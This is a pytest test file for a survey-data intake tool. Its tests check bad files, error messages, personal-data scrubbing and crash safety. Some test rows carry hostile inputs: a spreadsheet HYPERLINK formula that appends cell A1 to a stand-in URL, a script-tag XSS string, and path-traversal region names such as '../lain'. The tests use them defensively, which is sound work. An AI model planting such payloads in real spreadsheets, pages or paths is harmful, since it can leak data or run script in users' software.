"""What bad input gets: a clear message, the right exit code, and nothing lost."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from analysis import store
from analysis.errors import AnalysisError, UsageError
from analysis.intake.run import intake_region
from analysis.periods import Period
from analysis.settings import Project
from tests.regions import (
    HEADER,
    answers,
    make_region,
    source_toml,
    write_csv,
    write_xlsx,
)

U3 = HEADER.index("U3")


def stopped(project: Project) -> AnalysisError:
    report = intake_region(project, "karangan")
    assert report.exit_code == 3
    assert len(report.errors) == 1
    return report.errors[0]


def both_texts(error: AnalysisError) -> str:
    return f"{error.text('id')}\n{error.text('en')}"


def empty(path: Path) -> None:
    path.with_suffix(".csv").write_bytes(b"")


def header_only(path: Path) -> None:
    write_csv(path.with_suffix(".csv"), [])


def protected(path: Path) -> None:
    # an encrypted workbook is an OLE container that holds the stream EncryptedPackage
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + "EncryptedPackage".encode("utf-16-le")
    path.with_suffix(".xlsx").write_bytes(ole + bytes(512))


def truncated(path: Path) -> None:
    whole = write_xlsx(path.with_suffix(".xlsx"), {"Data": [HEADER, *answers(20)]})
    whole.write_bytes(whole.read_bytes()[:-1500])


def spreadsheet_as_csv(path: Path) -> None:
    book = write_xlsx(path.with_suffix(".xlsx"), {"Data": [HEADER, *answers(20)]})
    book.rename(path.with_suffix(".csv"))


def zip_as_workbook(path: Path) -> None:
    with zipfile.ZipFile(path.with_suffix(".xlsx"), "w") as archive:
        archive.writestr("foto.txt", "bukan tabel")


def text_without_table(path: Path) -> None:
    path.with_suffix(".csv").write_text("Laporan kegiatan\nTidak ada tabel di sini\n")


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (empty, "intake.read.empty"),
        (header_only, "intake.run.header_only"),
        (protected, "intake.read.protected"),
        (truncated, "intake.read.truncated"),
        (spreadsheet_as_csv, "intake.read.workbook_as_text"),
        (zip_as_workbook, "intake.read.other_format"),
        (text_without_table, "intake.run.no_table"),
    ],
    ids=lambda one: getattr(one, "__name__", ""),
)
def test_unusable_file_stops_its_source_and_leaves_the_others(project: Project, make, code):
    sources = source_toml(id="baik", files="baik.csv", unsur_order="B") + source_toml(
        id="buruk", files="buruk.*", unsur_order="B"
    )
    files = make_region(project, sources)
    write_csv(files / "baik.csv", answers(10))
    make(files / "buruk")
    error = stopped(project)
    assert error.code == code
    assert "buruk" in error.text("id")
    assert "buruk" in error.text("en")
    assert len(store.read_table(project, "karangan", "citizen_survey")) == 10


def test_unusable_file_may_be_replaced_under_its_name(project: Project):
    files = make_region(project)
    empty(files / "skm")
    stopped(project)
    write_csv(files / "skm.csv", answers(10))
    assert intake_region(project, "karangan").source("skm").accepted == 10


def test_wrong_sheet_names_those_that_are_there(project: Project):
    files = make_region(project, source_toml(files="*.xlsx", sheet="Jawaban", unsur_order="B"))
    write_xlsx(files / "skm.xlsx", {"Data": [HEADER, *answers(5)], "Info": [["x"]]})
    error = stopped(project)
    assert error.code == "intake.read.wrong_sheet"
    assert "Data, Info" in both_texts(error)
    assert 'sheet = "Data"' in both_texts(error)


def test_mixed_encodings_keep_every_row_and_are_told(project: Project):
    path = make_region(project) / "skm.csv"
    rows = answers(20)
    rows[2][-1], rows[5][-1] = "pelayanan café", "layanan naïf"
    write_csv(path, rows)
    lines = path.read_bytes().split(b"\r\n")
    lines[3] = lines[3].decode("utf-8").encode("cp1252")
    path.write_bytes(b"\r\n".join(lines))
    source = intake_region(project, "karangan").source("skm")
    assert source.accepted == 20
    assert "intake.read.mixed_encoding" in {p.code for p in source.problems}
    comments = store.read_table(project, "karangan", "citizen_survey")["comment"].dropna()
    assert comments.tolist() == ["pelayanan café", "layanan naïf"]


def test_answer_of_five_on_a_four_point_form_is_quarantined(project: Project):
    rows = answers(10)
    rows[4][U3] = "5"
    write_csv(make_region(project) / "skm.csv", rows)
    source = intake_region(project, "karangan").source("skm")
    assert source.reasons["quarantined"] == {"out_of_range": 1}
    assert (source.accepted, source.stop) == (9, None)


def test_unknown_unit_is_quarantined(project: Project):
    rows = answers(10)
    rows[4][1] = "Kantor Bulan"
    write_csv(make_region(project) / "skm.csv", rows)
    assert intake_region(project, "karangan").source("skm").reasons["quarantined"] == {
        "unknown_unit": 1
    }


def test_file_without_unit_or_period_stops_with_the_line_to_add(project: Project):
    files = make_region(project)
    header = HEADER[2:]
    write_csv(files / "skm.csv", [row[2:] for row in answers(10)], header=header)
    error = stopped(project)
    assert error.code == "intake.run.no_unit"
    assert 'unit = "..."   # dukcapil, rsud' in both_texts(error)
    toml = files.parent / "region.toml"
    toml.write_text(toml.read_text() + 'unit = "rsud"\n')
    error = stopped(project)
    assert error.code == "intake.run.no_period"
    toml.write_text(toml.read_text() + 'period = "2025-S1"\n')
    assert intake_region(project, "karangan").source("skm").accepted == 10


@pytest.mark.parametrize(
    ("key", "value", "code"),
    [
        ("unit", "dinas-bulan", "intake.run.unit_unknown"),
        ("period", "semester lalu", "intake.run.period_invalid"),
    ],
)
def test_wrong_declaration_of_a_source_stops_it(project: Project, key, value, code):
    declared = {"unit": "rsud", "period": "2025-S1", key: value}
    files = make_region(project, source_toml(unsur_order="B", **declared))
    write_csv(files / "skm.csv", [row[2:] for row in answers(10)], header=HEADER[2:])
    error = stopped(project)
    assert error.code == code
    assert repr(value) in both_texts(error) or value in both_texts(error)


def test_region_without_region_toml(project: Project):
    (project.raw / "karangan" / "files").mkdir(parents=True)
    with pytest.raises(AnalysisError) as caught:
        intake_region(project, "karangan")
    assert caught.value.code == "schemas.region.missing"
    assert caught.value.exit_code == 2
    assert "kinerja new-region karangan" in caught.value.text("id")


@pytest.mark.parametrize("name", ["../lain", "/etc", "a/b", "..", "", "Kota X", "a.b"])
def test_path_as_a_region_name_is_wrong_use(project: Project, name: str):
    with pytest.raises(UsageError) as caught:
        intake_region(project, name)
    assert caught.value.exit_code == 2
    assert not project.private.exists()


def test_formula_in_a_cell_stays_text_that_no_spreadsheet_runs(project: Project):
    rows = answers(10)
    rows[1][-1] = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
    rows[2][1] = '=HYPERLINK("http://contoh.invalid","RSUD")'
    write_csv(make_region(project) / "skm.csv", rows)
    source = intake_region(project, "karangan").source("skm")
    assert (source.accepted, source.reasons["quarantined"]) == (9, {"unknown_unit": 1})
    assert "intake.read.formula_text" in {p.code for p in source.problems}
    comment = store.read_table(project, "karangan", "citizen_survey")["comment"].dropna().item()
    assert not comment.startswith("=")


def test_script_in_a_comment_stays_text(project: Project):
    rows = answers(10)
    rows[1][-1] = "<script>alert(1)</script> bagus"
    write_csv(make_region(project) / "skm.csv", rows)
    assert intake_region(project, "karangan").source("skm").accepted == 10
    comment = store.read_table(project, "karangan", "citizen_survey")["comment"].dropna().item()
    assert comment == "<script>alert(1)</script> bagus"


def test_period_without_data_is_an_empty_table(project: Project):
    write_csv(make_region(project) / "skm.csv", answers(10))
    intake_region(project, "karangan")
    frame = store.read_table(project, "karangan", "citizen_survey", period=Period.parse("2019"))
    assert frame.empty
    assert "unit_id" in frame


def test_missing_secret_is_told_before_anything_is_written(project, monkeypatch, tmp_path):
    write_csv(make_region(project) / "skm.csv", answers(10))
    monkeypatch.delenv("KINERJA_SECRET")
    monkeypatch.setenv("KINERJA_SECRET_FILE", str(tmp_path / "none"))
    with pytest.raises(AnalysisError) as caught:
        intake_region(project, "karangan")
    assert caught.value.code == "privacy.keys.missing"
    assert not project.processed.exists()


def test_names_phones_and_identifiers_leave_nothing_in_the_tables(project: Project):
    rows = [
        [*row[:-1], "Siti Rahmawati Harahap", "081234567890", "terima kasih Siti Rahmawati"]
        for row in answers(10)
    ]
    header = [*HEADER[:-1], "Nama", "No. HP", "Saran"]
    write_csv(make_region(project) / "skm.csv", rows, header=header)
    intake_region(project, "karangan")
    written = b"".join(path.read_bytes() for path in project.processed.rglob("*") if path.is_file())
    frame = store.read_table(project, "karangan", "citizen_survey")
    texts = frame.astype("str").to_csv() + (
        project.processed / "karangan" / "_intake" / "accounting.json"
    ).read_text("utf-8")
    assert "081234567890" not in texts
    assert "Rahmawati" not in texts
    assert b"Rahmawati" not in written
    check = (project.private / "check" / "karangan").read_text("utf-8")
    assert "Rahmawati" not in check


KILLED = """
import os, signal, sys
from pathlib import Path
import analysis.store.tables as tables
from analysis.intake.run import intake_region
from analysis.settings import Project

def die(*_):
    os.kill(os.getpid(), signal.SIGKILL)

tables.publish_folder = die
intake_region(Project(Path(sys.argv[1])), "karangan")
"""


def test_kill_between_staging_and_exchange_leaves_the_last_good_tables(project: Project):
    files = make_region(project)
    write_csv(files / "a.csv", answers(10))
    intake_region(project, "karangan")
    write_csv(files / "b.csv", answers(8, seed=4))
    done = subprocess.run(
        [sys.executable, "-c", KILLED, str(project.home)], env=dict(os.environ), check=False
    )
    assert done.returncode == -signal.SIGKILL
    assert len(store.read_table(project, "karangan", "citizen_survey")) == 10
    report = intake_region(project, "karangan")
    assert report.source("skm").accepted == 18
    assert [path.name for path in project.processed.iterdir()] == ["karangan"]


def test_message_of_a_stop_never_shows_an_answer(project: Project):
    files = make_region(project)
    rows = [[*row, "Siti Rahmawati Harahap"] for row in answers(10)]
    write_csv(files / "skm.csv", rows, header=[*HEADER, "Kolom Aneh"])
    error = stopped(project)
    assert "Rahmawati" not in both_texts(error)
    assert "Kolom Aneh" in both_texts(error)


def test_units_are_needed_only_where_named(project: Project):
    files = make_region(project, source_toml(unsur_order="B", unit="RSUD"))
    write_csv(
        files / "skm.csv", [[r[0], *r[2:]] for r in answers(10)], header=[HEADER[0], *HEADER[2:]]
    )
    intake_region(project, "karangan")
    frame = store.read_table(project, "karangan", "citizen_survey")
    assert frame["unit_id"].unique().tolist() == ["rsud"]
